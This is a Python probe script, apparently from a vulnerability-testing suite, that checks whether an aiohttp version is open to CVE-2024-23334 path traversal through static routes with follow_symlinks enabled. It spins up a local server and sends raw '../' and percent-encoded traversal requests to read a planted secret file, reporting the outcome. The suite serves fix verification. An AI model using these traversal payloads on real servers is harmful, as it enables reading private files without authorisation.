# /// vertice-probe
# id = "PYSEC-2024-24"
# aliases = ["CVE-2024-23334", "GHSA-5h86-8mv2-jq9f"]
# package = "aiohttp"
# summary = """\
#   A static route with follow_symlinks=True serves files outside its directory when the requested path climbs out \
#   of it."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N" }]
# cwe = ["CWE-22"]
# kind = "traversal"
# symbols = [
#   "aiohttp.web.static",
#   "aiohttp.web.UrlDispatcher.add_static",
#   "aiohttp.web.StaticResource",
#   "aiohttp.web.StaticDef",
# ]
#
# [[affected]]
# package = "aiohttp"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "1.0.5" }, { fixed = "3.9.2" }] }]
#
# [cases]
# attack = "a path with ../ reads a file beside the static directory"
# [cases.variants]
# encoded = "the same with percent-encoded dots and slashes below a sub-folder"
# version_hash = "url_for(append_version=True) opens and hashes the file outside"
# [cases.controls]
# download = "an ordinary file and one behind a symlink inside the directory are served"
#
# [test]
# vulnerable = "3.9.1"
# fixed = "3.9.2"
# ///
"""CVE-2024-23334: path traversal through a static route that follows symlinks."""

import asyncio
import json
import os
import sys
import tempfile

SECRET = "secret-outside-the-root"
BASE = os.path.realpath(tempfile.mkdtemp())
ROOT = os.path.join(BASE, "static")


def write(path, text):
    with open(path, "w") as stream:
        stream.write(text)


def build():
    from aiohttp import web

    os.makedirs(os.path.join(ROOT, "css"))
    write(os.path.join(BASE, "secret.txt"), SECRET)
    write(os.path.join(ROOT, "public.txt"), "public text")
    os.symlink("public.txt", os.path.join(ROOT, "link.txt"))
    app = web.Application()
    resource = app.router.add_static("/static", ROOT, follow_symlinks=True)
    return app, resource


async def fetch(paths):
    """Status and body for each raw request target."""
    from aiohttp import web

    app, _ = build()
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    answers = []
    for path in paths:
        reader, writer = await asyncio.open_connection("127.0.0.1", runner.addresses[0][1])
        writer.write(("GET %s HTTP/1.1\r\nHost: shop\r\nConnection: close\r\n\r\n" % path).encode())
        await writer.drain()
        answer = await asyncio.wait_for(reader.read(), 10)
        writer.close()
        answers.append((int(answer.split(b" ", 2)[1]), answer.partition(b"\r\n\r\n")[2].decode()))
    await runner.cleanup()
    return answers


def climb(path):
    plain, answer = asyncio.run(fetch(["/static/public.txt", path]))
    if plain != (200, "public text"):
        raise RuntimeError("the static route does not serve its own file: %r" % (plain,))
    if answer == (200, SECRET):
        return "exploited", "the file outside the static directory was served"
    if answer[0] in (403, 404) and SECRET not in answer[1]:
        return "blocked", "the server answers %d" % answer[0]
    raise RuntimeError("unexpected answer %r" % (answer,))


def attack():
    return climb("/static/../secret.txt")


def encoded():
    return climb("/static/css/%2e%2e%2f%2e%2e%2fsecret.txt")


def version_hash():
    _, resource = build()
    inside = resource.url_for(filename="public.txt", append_version=True)
    if "v" not in inside.query:
        raise RuntimeError("append_version gives no hash for a file inside: %s" % inside)
    outside = resource.url_for(filename="../secret.txt", append_version=True)
    if "v" in outside.query:
        return "exploited", "the file outside was opened and hashed: v=%s" % outside.query["v"]
    return "blocked", "a hash for the file inside only"


def download():
    got = asyncio.run(fetch(["/static/public.txt", "/static/link.txt", "/static/missing.txt"]))
    if got[:2] == [(200, "public text")] * 2 and got[2][0] == 404:
        return "works", "file and symlink served, a missing file gives 404"
    return "broken", repr(got)


CASES = {"attack": attack, "encoded": encoded, "version_hash": version_hash, "download": download}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
